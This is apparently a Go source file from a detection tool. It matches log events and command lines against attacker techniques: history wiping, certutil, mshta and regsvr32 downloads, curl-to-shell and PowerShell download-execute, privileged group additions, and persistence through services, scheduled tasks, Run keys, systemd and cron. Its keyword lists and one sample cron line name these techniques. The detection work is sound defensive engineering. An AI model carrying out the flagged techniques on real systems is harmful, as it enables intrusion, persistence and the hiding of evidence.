// ": > /var/log/x", "cat /dev/null > /var/log/x") whose left side writes
// nothing; appends (">>") and redirects of real output are not clearing.
func emptiesByRedirect(lc string, pathAt int) bool {
	j := pathAt - 1
	for j >= 0 && lc[j] == ' ' {
		j--
	}
	if j < 0 || lc[j] != '>' || (j > 0 && lc[j-1] == '>') {
		if hasProg(lc, "cp") && strings.Contains(lc, "/dev/null") {
			return true
		}
		return false
	}
	left := strings.TrimSpace(lc[:j])
	left = strings.TrimSpace(strings.TrimRight(left, "0123456789&"))
	switch left {
	case "", ":", "true", "echo", `echo ""`, "echo ''", "echo -n", "cat /dev/null", "printf ''", `printf ""`:
		return true
	}
	return strings.HasSuffix(left, ";") || strings.HasSuffix(left, "&&") || strings.HasSuffix(left, "sudo")
}

func matchHistoryCleared(in *input) (hit, bool) {
	lc := in.lc
	switch {
	case hasProg(lc, "history") && (strings.Contains(lc, "history -c") || strings.Contains(lc, "history -w /dev/null")):
		return hit{what: "cleared the shell history with " + quoted(in.cmd, 80), object: "history -c"}, true
	case strings.Contains(lc, "clear-history"):
		return hit{what: "cleared the PowerShell history with Clear-History", object: "clear-history"}, true
	case strings.Contains(lc, "historysavepath") && (strings.Contains(lc, "remove-item") || hasProg(lc, "del") || hasProg(lc, "rm")):
		return hit{what: "deleted the PSReadLine history file", object: "psreadline"}, true
	case strings.Contains(lc, "_history") && (hasProg(lc, "rm") || hasProg(lc, "shred") || hasProg(lc, "truncate") ||
		(hasProg(lc, "ln") && strings.Contains(lc, "/dev/null")) || strings.Contains(lc, "> ~/.") || strings.Contains(lc, ">~/.")):
		i := strings.Index(lc, "_history")
		s := strings.LastIndexAny(lc[:i], " >") + 1
		file := in.cmd[s : i+len("_history")]
		return hit{what: "erased the shell history file " + file, object: strings.ToLower(file)}, true
	}
	return hit{}, false
}

func matchHistoryDisabled(in *input) (hit, bool) {
	lc := in.lc
	switch {
	case strings.Contains(lc, "unset histfile"):
	case strings.Contains(lc, "histfile=/dev/null"):
	case strings.Contains(lc, "histsize=0") || strings.Contains(lc, "histfilesize=0"):
	case strings.Contains(lc, "set +o history"):
	default:
		return hit{}, false
	}
	return hit{what: "disabled shell history logging with " + quoted(in.cmd, 100), object: norm(lc)}, true
}

// --- living-off-the-land downloads and proxies ---

func matchCertutilDownload(in *input) (hit, bool) {
	lc := in.lc
	if !hasProg(lc, "certutil") {
		return hit{}, false
	}
	if !(strings.Contains(lc, "urlcache") || strings.Contains(lc, "verifyctl") || strings.Contains(lc, "http://") || strings.Contains(lc, "https://")) {
		return hit{}, false
	}
	url := firstURL(in.cmd, lc)
	if url == "" {
		return hit{}, false
	}
	return hit{what: "ran certutil.exe to download " + url, object: strings.ToLower(url)}, true
}

func matchCertutilDecode(in *input) (hit, bool) {
	lc := in.lc
	if !hasProg(lc, "certutil") || !(strings.Contains(lc, "-decode") || strings.Contains(lc, "/decode")) {
		return hit{}, false
	}
	as := args(in.cmd)
	file := argAfter(as, "-decode", "/decode", "-decodehex", "/decodehex")
	what := "decoded a file with certutil.exe"
	if file != "" {
		what = "decoded " + file + " with certutil.exe"
	}
	return hit{what: what, object: norm(lc)}, true
}

func matchBitsTransfer(in *input) (hit, bool) {
	lc := in.lc
	if !(hasProg(lc, "bitsadmin") && (strings.Contains(lc, "/transfer") || strings.Contains(lc, "/addfile")) || strings.Contains(lc, "start-bitstransfer")) {
		return hit{}, false
	}
	url := firstURL(in.cmd, lc)
	if url == "" {
		return hit{}, false
	}
	return hit{what: "downloaded " + url + " with a BITS job", object: strings.ToLower(url)}, true
}

func matchMshta(in *input) (hit, bool) {
	lc := in.lc
	if !hasProg(lc, "mshta") {
		return hit{}, false
	}
	if url := firstURL(in.cmd, lc); url != "" {
		return hit{what: "ran mshta.exe on remote script " + url, object: strings.ToLower(url)}, true
	}
	if strings.Contains(lc, "javascript:") || strings.Contains(lc, "vbscript:") {
		return hit{what: "ran inline script with mshta.exe: " + quoted(in.cmd, 160), object: norm(lc)}, true
	}
	return hit{}, false
}

func matchRegsvr32(in *input) (hit, bool) {
	lc := in.lc
	if !hasProg(lc, "regsvr32") {
		return hit{}, false
	}
	url := firstURL(in.cmd, lc)
	if (strings.Contains(lc, "/i:") || strings.Contains(lc, "-i:")) && url != "" {
		return hit{what: "ran regsvr32.exe to load scriptlet " + url, object: strings.ToLower(url)}, true
	}
	if strings.Contains(lc, "scrobj.dll") {
		return hit{what: "ran regsvr32.exe with scrobj.dll: " + quoted(in.cmd, 160), object: norm(lc)}, true
	}
	return hit{}, false
}

func matchRundll32(in *input) (hit, bool) {
	lc := in.lc
	if !hasProg(lc, "rundll32") {
		return hit{}, false
	}
	if strings.Contains(lc, "javascript:") || strings.Contains(lc, "vbscript:") || strings.Contains(lc, "runhtmlapplication") {
		return hit{what: "ran script code through rundll32.exe: " + quoted(in.cmd, 160), object: norm(lc)}, true
	}
	if url := firstURL(in.cmd, lc); url != "" {
		return hit{what: "ran rundll32.exe on remote content " + url, object: strings.ToLower(url)}, true
	}
	return hit{}, false
}

func matchDownloadExecPowerShell(in *input) (hit, bool) {
	lc := in.lc
	if !(hasProg(lc, "iex") || strings.Contains(lc, "iex(") || strings.Contains(lc, "invoke-expression")) {
		return hit{}, false
	}
	if !containsAny(lc, []string{"downloadstring", "downloaddata", "downloadfile", "invoke-webrequest", "iwr ", "invoke-restmethod", "irm ", "net.webclient", "start-bitstransfer"}) {
		return hit{}, false
	}
	url := firstURL(in.cmd, lc)
	if url == "" {
		return hit{what: "downloaded and executed PowerShell code: " + quoted(in.cmd, 160), object: norm(lc)}, true
	}
	return hit{what: "downloaded and executed " + url + " in PowerShell", object: strings.ToLower(url)}, true
}

func matchDownloadExecShell(in *input) (hit, bool) {
	lc := in.lc
	if !(hasProg(lc, "curl") || hasProg(lc, "wget")) {
		return hit{}, false
	}
	ok := pipesToShell(lc) ||
		strings.Contains(lc, "sh -c \"$(curl") || strings.Contains(lc, "sh -c \"$(wget") ||
		strings.Contains(lc, "sh <(curl") || strings.Contains(lc, "sh <(wget") ||
		(strings.Contains(lc, "chmod +x") || strings.Contains(lc, "chmod 7") || strings.Contains(lc, "chmod 07")) &&
			(strings.Contains(lc, "/tmp/") || strings.Contains(lc, "/dev/shm/") || strings.Contains(lc, "/var/tmp/"))
	if !ok {
		return hit{}, false
	}
	url := firstURL(in.cmd, lc)
	if url == "" {
		return hit{what: "downloaded and executed a script: " + quoted(in.cmd, 160), object: norm(lc)}, true
	}
	return hit{what: "downloaded and executed " + url, object: strings.ToLower(url)}, true
}

// --- accounts ---

var privilegedGroups = []string{
	"administrators", "domain admins", "enterprise admins", "schema admins", "backup operators",
	"account operators", "server operators", "dnsadmins", "group policy creator owners",
	"enterprise key admins", "key admins", "remote desktop users",
	"sudo", "wheel", "admin", "root", "docker", "lxd",
}

// privilegedSIDs are well-known SIDs (or RID suffixes) of privileged groups.
var privilegedSIDs = []string{"s-1-5-32-544", "s-1-5-32-548", "s-1-5-32-549", "s-1-5-32-551", "s-1-5-32-555", "-512", "-518", "-519", "-526", "-527"}

func isPrivilegedGroup(name string) bool {
	n := strings.ToLower(strings.TrimSpace(name))
	if i := strings.LastIndexByte(n, '\\'); i >= 0 {
		n = n[i+1:]
	}
	for _, g := range privilegedGroups {
		if n == g {
			return true
		}
	}
	return false
}

func groupAddHit(member, group string) hit {
	return hit{
		what:   "added " + quoted(member, 80) + " to the privileged group " + quoted(group, 80),
		object: strings.ToLower(member) + "|" + strings.ToLower(group),
	}
}

func matchAdminGroupAdd(in *input) (hit, bool) {
	ev := in.ev
	if in.lc == "" {
		switch {
		case ev.EventID == 4728 || ev.EventID == 4732 || ev.EventID == 4756:
			if !fromSecurity(ev) {
				return hit{}, false
			}
			group := data(ev, "TargetUserName")
			sid := strings.ToLower(data(ev, "TargetSid"))
			priv := isPrivilegedGroup(group)
			for _, s := range privilegedSIDs {
				if sid != "" && strings.HasSuffix(sid, s) {
					priv = true
				}
			}
			if !priv {
				return hit{}, false
			}
			member := memberName(data(ev, "MemberName"))
			if member == "" {
				member = data(ev, "MemberSid")
			}
			if member == "" {
				member = ev.TargetUser
			}
			return groupAddHit(member, group), true
		case ev.Program != "":
			return syslogGroupAdd(ev.Message)
		}
		return hit{}, false
	}
	return commandGroupAdd(in.cmd, in.lc)
}

// memberName takes the CN out of a distinguished name.
func memberName(dn string) string {
	if dn == "-" {
		return ""
	}
	if strings.HasPrefix(strings.ToUpper(dn), "CN=") {
		v := dn[3:]
		if i := strings.Index(v, ","); i >= 0 {
			v = v[:i]
		}
		return v
	}
	return dn
}

// syslogGroupAdd reads usermod/useradd ("add 'bob' to group 'sudo'") and
// gpasswd ("user bob added by root to group sudo") messages.
func syslogGroupAdd(msg string) (hit, bool) {
	if strings.Contains(msg, "shadow group") {
		return hit{}, false // the gshadow twin of the same change
	}
	if i := strings.Index(msg, "add '"); i >= 0 {
		rest := msg[i+5:]
		member, rest, ok := strings.Cut(rest, "' to group '")
		if ok {
			group, _, _ := strings.Cut(rest, "'")
			if isPrivilegedGroup(group) {
				return groupAddHit(member, group), true
			}
		}
		return hit{}, false
	}
	if i := strings.Index(msg, "user "); i >= 0 && strings.Contains(msg, " added by ") {
		rest := msg[i+5:]
		member, _, _ := strings.Cut(rest, " ")
		if j := strings.Index(rest, " to group "); j >= 0 {
			group := strings.TrimSpace(rest[j+len(" to group "):])
			if isPrivilegedGroup(group) {
				return groupAddHit(member, group), true
			}
		}
	}
	return hit{}, false
}

func commandGroupAdd(cmd, lc string) (hit, bool) {
	var as []string
	switch {
	case (hasProg(lc, "net") || hasProg(lc, "net1")) && (strings.Contains(lc, "localgroup") || strings.Contains(lc, " group ")) && strings.Contains(lc, "/add"):
		// net localgroup administrators bob /add ; net group "domain admins" bob /add /domain
		as = args(cmd)
		for i, a := range as {
			la := strings.ToLower(a)
			if (la == "localgroup" || la == "group") && i+2 < len(as) && isPrivilegedGroup(as[i+1]) {
				return groupAddHit(as[i+2], as[i+1]), true
			}
		}
	case hasProg(lc, "usermod"):
		as = args(cmd)
		var groups string
		for i := 0; i+1 < len(as); i++ {
			la := strings.ToLower(as[i])
			if la == "--groups" || len(la) > 1 && la[0] == '-' && la[1] != '-' && strings.IndexByte(la, 'g') > 0 {
				groups = as[i+1]
			}
		}
		member := as[len(as)-1]
		for g := range strings.SplitSeq(groups, ",") {
			if isPrivilegedGroup(g) {
				return groupAddHit(member, g), true
			}
		}
	case hasProg(lc, "gpasswd") && (strings.Contains(lc, " -a ") || strings.Contains(lc, " --add ")):
		as = args(cmd)
		member := argAfter(as, "-a", "--add")
		group := as[len(as)-1]
		if isPrivilegedGroup(group) && member != "" {
			return groupAddHit(member, group), true
		}
	case hasProg(lc, "adduser"):
		// Debian "adduser USER GROUP"
		as = args(cmd)
		var plain []string
		for _, a := range as[1:] {
			if !strings.HasPrefix(a, "-") {
				plain = append(plain, a)
			}
		}
		if len(plain) == 2 && isPrivilegedGroup(plain[1]) {
			return groupAddHit(plain[0], plain[1]), true
		}
	case strings.Contains(lc, "add-localgroupmember") || strings.Contains(lc, "add-adgroupmember"):
		as = args(cmd)
		group := argAfter(as, "-group", "-identity", "-name")
		member := argAfter(as, "-member", "-members")
		if isPrivilegedGroup(group) {
			return groupAddHit(member, group), true
		}
	}
	return hit{}, false
}

func accountHit(name, how string) hit {
	return hit{what: "created account " + quoted(name, 80) + how, object: strings.ToLower(name)}
}

func matchAccountCreated(in *input) (hit, bool) {
	ev := in.ev
	if in.lc == "" {
		switch {
		case ev.EventID == 4720:
			if !fromSecurity(ev) {
				return hit{}, false
			}
			name := data(ev, "TargetUserName")
			if name == "" {
				name = ev.TargetUser
			}
			return accountHit(name, by(ev)), true
		case ev.Program != "":
			// useradd: "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash"
			i := strings.Index(ev.Message, "new user: name=")
			if i < 0 {
				return hit{}, false
			}
			name, _, _ := strings.Cut(ev.Message[i+len("new user: name="):], ",")
			return accountHit(name, ""), true
		}
		return hit{}, false
	}
	lc := in.lc
	switch {
	case (hasProg(lc, "net") || hasProg(lc, "net1")) && strings.Contains(lc, " user ") && strings.Contains(lc, "/add"):
		if name := argAfter(args(in.cmd), "user"); name != "" {
			return accountHit(name, " with net user"), true
		}
	case hasProg(lc, "useradd") || hasProg(lc, "adduser"):
		as := args(in.cmd)
		name := ""
		for i := len(as) - 1; i > 0; i-- {
			if !strings.HasPrefix(as[i], "-") {
				name = as[i]
				break
			}
		}
		if name != "" && basename(strings.ToLower(name)) != "useradd" && basename(strings.ToLower(name)) != "adduser" {
			return accountHit(name, ""), true
		}
	case strings.Contains(lc, "new-localuser") || strings.Contains(lc, "new-aduser"):
		name := argAfter(args(in.cmd), "-name", "-samaccountname")
		if name != "" {
			return accountHit(name, ""), true
		}
	}
	return hit{}, false
}

// --- services, tasks, autostart ---

// remoteExecServices are service names of PsExec and its look-alikes.
var remoteExecServices = []string{"psexesvc", "paexec", "remcomsvc", "csexecsvc", "rexecsvc"}

func isRemoteExecService(name, path string) bool {
	n, p := strings.ToLower(name), strings.ToLower(path)
	for _, s := range remoteExecServices {
		if strings.HasPrefix(n, s) || strings.Contains(p, s) {
			return true
		}
	}
	return false
}

func serviceFields(ev *event.Event) (name, path string) {
	name = data(ev, "ServiceName")
	if ev.EventID == 4697 {
		path = data(ev, "ServiceFileName")
	} else {
		path = data(ev, "ImagePath")
	}
	return name, path
}

func serviceEvent(ev *event.Event) bool {
	if ev.EventID == 4697 {
		return fromSecurity(ev)
	}
	return noOrigin(ev) || strings.EqualFold(ev.Channel, "System") || containsFold(ev.Provider, "service control manager")
}

func matchPsexecService(in *input) (hit, bool) {
	ev := in.ev
	if !serviceEvent(ev) {
		return hit{}, false
	}
	name, path := serviceFields(ev)
	if !isRemoteExecService(name, path) {
		return hit{}, false
	}
	return hit{
		what:   "installed service " + quoted(name, 80) + " running " + path + " (remote execution over SMB)",
		object: strings.ToLower(name),
	}, true
}

// trustedDirs are install locations of ordinary Windows software.
var trustedDirs = []string{`system32\`, `syswow64\`, `\program files\`, `\program files (x86)\`, `\windows defender\`, `\microsoft.net\`, `\windowsapps\`}

// launcherMarkers are signs that an autostart entry launches a script or
// shell, or runs from a user-writable place.
var launcherMarkers = []string{
	"powershell", "pwsh", "cmd.exe", "cmd /", "%comspec%", "mshta", "rundll32", "regsvr32", "wscript", "cscript",
	"http://", "https://", `\temp\`, `\tmp\`, `\appdata\`, `\users\public\`, `\perflogs\`, `\downloads\`,
	"-enc", ".ps1", ".bat", ".vbs", ".hta", ".js ", "bitsadmin", "certutil", "frombase64string", "/tmp/", "/dev/shm/",
}

// autostartRisk says whether a launched command is worth a detection and
// whether it should be raised.
func autostartRisk(lcCommand string) (report, raise bool) {
	raise = containsAny(lcCommand, launcherMarkers)
	return raise || !containsAny(lcCommand, trustedDirs), raise
}

func matchServiceInstalled(in *input) (hit, bool) {
	ev := in.ev
	if in.lc == "" {
		if !serviceEvent(ev) {
			return hit{}, false
		}
		name, path := serviceFields(ev)
		if name == "" || isRemoteExecService(name, path) {
			return hit{}, false
		}
		report, raise := autostartRisk(strings.ToLower(path))
		if !report {
			return hit{}, false
		}
		return hit{what: "installed service " + quoted(name, 80) + " running " + clip(oneLine(path), 200) + decodedSuffix(path), object: strings.ToLower(name), raise: raise}, true
	}
	lc := in.lc
	switch {
	case (hasProg(lc, "sc") || hasProg(lc, "sc.exe")) && strings.Contains(lc, " create "):
		as := args(in.cmd)
		name := argAfter(as, "create")
		path := argAfter(as, "binpath=", "binPath=")
		if path == "" {
			if i := strings.Index(lc, "binpath="); i >= 0 {
				path = strings.Trim(strings.TrimSpace(in.cmd[i+len("binpath="):]), `"`)
			}
		}
		_, raise := autostartRisk(strings.ToLower(path))
		return hit{what: "created service " + quoted(name, 80) + " running " + clip(oneLine(path), 200) + " with sc.exe", object: strings.ToLower(name), raise: raise}, true
	case strings.Contains(lc, "new-service"):
		as := args(in.cmd)
		name := argAfter(as, "-name")
		path := argAfter(as, "-binarypathname")
		_, raise := autostartRisk(strings.ToLower(path))
		return hit{what: "created service " + quoted(name, 80) + " running " + clip(oneLine(path), 200) + " with New-Service", object: strings.ToLower(name), raise: raise}, true
	}
	return hit{}, false
}

// xmlText returns the text of the first <tag> element in an XML string.
func xmlText(x, tag string) string {
	i := strings.Index(x, "<"+tag+">")
	if i < 0 {
		return ""
	}
	rest := x[i+len(tag)+2:]
	j := strings.Index(rest, "</"+tag+">")
	if j < 0 {
		return ""
	}
	return strings.TrimSpace(rest[:j])
}

func matchScheduledTask(in *input) (hit, bool) {
	ev := in.ev
	if in.lc == "" {
		if !fromSecurity(ev) {
			return hit{}, false
		}
		name := data(ev, "TaskName")
		content := data(ev, "TaskContent")
		command := strings.TrimSpace(xmlText(content, "Command") + " " + xmlText(content, "Arguments"))
		report, raise := autostartRisk(strings.ToLower(command))
		if !report || command == "" {
			return hit{}, false
		}
		return hit{what: "created scheduled task " + quoted(name, 100) + " running " + clip(oneLine(command), 200) + decodedSuffix(command), object: strings.ToLower(name), raise: raise}, true
	}
	lc := in.lc
	switch {
	case hasProg(lc, "schtasks") && (strings.Contains(lc, "/create") || strings.Contains(lc, "-create")):
		as := args(in.cmd)
		name := argAfter(as, "/tn", "-tn")
		run := argAfter(as, "/tr", "-tr")
		_, raise := autostartRisk(strings.ToLower(run))
		what := "created scheduled task " + quoted(name, 100)
		if run != "" {
			what += " running " + clip(oneLine(run), 200)
		}
		return hit{what: what + " with schtasks.exe", object: strings.ToLower(name), raise: raise}, true
	case strings.Contains(lc, "register-scheduledtask"):
		name := argAfter(args(in.cmd), "-taskname")
		_, raise := autostartRisk(lc)
		return hit{what: "registered scheduled task " + quoted(name, 100) + " with Register-ScheduledTask", object: strings.ToLower(name), raise: raise}, true
	}
	return hit{}, false
}

// runKeyWriters are programs whose Run-key writes are reported even when
// the value looks ordinary.
var runKeyWriters = []string{"reg.exe", "powershell.exe", "pwsh.exe", "cmd.exe", "wscript.exe", "cscript.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe"}

func matchRunKey(in *input) (hit, bool) {
	ev := in.ev
	if in.lc == "" {
		if !fromSysmon(ev) {
			return hit{}, false
		}
		key := data(ev, "TargetObject")
		lk := strings.ToLower(key)
		if !strings.Contains(lk, `\currentversion\run`) && !strings.Contains(lk, `\policies\explorer\run`) {
			return hit{}, false
		}
		value := data(ev, "Details")
		writer := strings.ToLower(basename(data(ev, "Image")))
		raise := containsAny(strings.ToLower(value), launcherMarkers)
		scripted := false
		for _, w := range runKeyWriters {
			if writer == w {
				scripted = true
			}
		}
		if !raise && !scripted {
			return hit{}, false
		}
		return hit{what: "set Run key " + key + " to " + quoted(value, 160), object: strings.ToLower(key), raise: raise}, true
	}
	lc := in.lc
	if !(hasProg(lc, "reg") && strings.Contains(lc, " add ") || strings.Contains(lc, "set-itemproperty") || strings.Contains(lc, "new-itemproperty")) {
		return hit{}, false
	}
	as := args(in.cmd)
	name := argAfter(as, "/v", "-name")
	value := argAfter(as, "/d", "-value")
	i := strings.Index(lc, `\currentversion\run`)
	key := in.cmd[:i+len(`\currentversion\run`)]
	if j := strings.LastIndexAny(key, " \"'"); j >= 0 {
		key = key[j+1:]
	}
	what := "set Run key " + key
	if name != "" {
		what += `\` + name
	}
	if value != "" {
		what += " to " + quoted(value, 160)
	}
	return hit{what: what, object: strings.ToLower(key + `\` + name), raise: containsAny(strings.ToLower(value), launcherMarkers)}, true
}

func inTempDir(lc string) bool {
	return strings.Contains(lc, "/tmp/") || strings.Contains(lc, "/dev/shm/") || strings.Contains(lc, "/var/tmp/")
}

func matchSystemd(in *input) (hit, bool) {
	lc := in.lc
	if hasProg(lc, "systemctl") && (strings.Contains(lc, " enable ") || strings.Contains(lc, " link ")) && (inTempDir(lc) || strings.Contains(lc, "/home/")) {
		return hit{what: "enabled a systemd unit from a temporary or home directory: " + quoted(in.cmd, 160), object: norm(lc), raise: true}, true
	}
	for _, dir := range []string{"/etc/systemd/system/", "/lib/systemd/system/", "/usr/lib/systemd/system/", ".config/systemd/user/"} {
		i := strings.Index(lc, dir)
		if i < 0 {
			continue
		}
		if !(hasProg(lc, "tee") || hasProg(lc, "cp") || hasProg(lc, "mv") || hasProg(lc, "install") || strings.Contains(lc[:i], ">")) {
			continue
		}
		unit := in.cmd[i:]
		if j := strings.IndexAny(unit, " \t;|&'\""); j >= 0 {
			unit = unit[:j]
		}
		if !strings.HasSuffix(unit, ".service") && !strings.HasSuffix(unit, ".timer") {
			continue
		}
		return hit{what: "wrote systemd unit " + unit, object: strings.ToLower(unit), raise: inTempDir(lc) || pipesToShell(lc)}, true
	}
	return hit{}, false
}

// cronPayloadRisky reports a cron command that downloads, decodes or opens
// a network shell, or runs from a temporary directory.
func cronPayloadRisky(lc string) bool {
	if (strings.Contains(lc, "curl") || strings.Contains(lc, "wget")) && (strings.Contains(lc, "http") || pipesToShell(lc)) {
		return true
	}
	if strings.Contains(lc, "/dev/tcp/") || strings.Contains(lc, "/dev/udp/") || strings.Contains(lc, "/dev/shm/") {
		return true
	}
	if strings.Contains(lc, "base64") && (strings.Contains(lc, " -d") || strings.Contains(lc, "--decode")) {
		return true
	}
	for _, d := range []string{"/tmp/", "/var/tmp/"} {
		if strings.HasPrefix(lc, d) || strings.Contains(lc, "sh "+d) || strings.Contains(lc, "; "+d) || strings.Contains(lc, "&& "+d) || strings.Contains(lc, "bash "+d) {
			return true
		}
	}
	return false
}

func matchCron(in *input) (hit, bool) {
	ev := in.ev
	if in.lc == "" {
		// CRON[123]: (root) CMD (curl -s http://x/a.sh | sh)
		i := strings.Index(ev.Message, "CMD (")
		if i < 0 {
			return hit{}, false
		}
		cmd := strings.TrimSuffix(strings.TrimSpace(ev.Message[i+len("CMD ("):]), ")")
		lc := strings.ToLower(cmd)
		if !cronPayloadRisky(lc) {
			return hit{}, false
		}
		// The crontab's owner is the event's user; the reasoner names it.
		return hit{what: "ran " + quoted(cmd, 160) + " from a cron job", object: norm(lc), raise: true}, true
	}
	lc := in.lc
	switch {
	case strings.Contains(lc, "| crontab") || strings.Contains(lc, "|crontab"):
		return hit{what: "installed a crontab from a pipeline: " + quoted(in.cmd, 160), object: norm(lc), raise: cronPayloadRisky(lc)}, true
	case hasProg(lc, "crontab") && inTempDir(lc):
		return hit{what: "installed a crontab from a temporary file: " + quoted(in.cmd, 160), object: norm(lc), raise: true}, true
	}
	for _, dir := range []string{"/etc/cron", "/var/spool/cron"} {
		i := strings.Index(lc, dir)
		if i < 0 {
			continue
		}
		if !(hasProg(lc, "tee") || hasProg(lc, "cp") || hasProg(lc, "mv") || strings.Contains(lc[:i], ">")) {
			continue
		}
		file := in.cmd[i:]
		if j := strings.IndexAny(file, " \t;|&'\""); j >= 0 {
			file = file[:j]
		}
		return hit{what: "wrote cron file " + file + ": " + quoted(in.cmd, 160), object: strings.ToLower(file), raise: cronPayloadRisky(lc)}, true
	}
	return hit{}, false
}
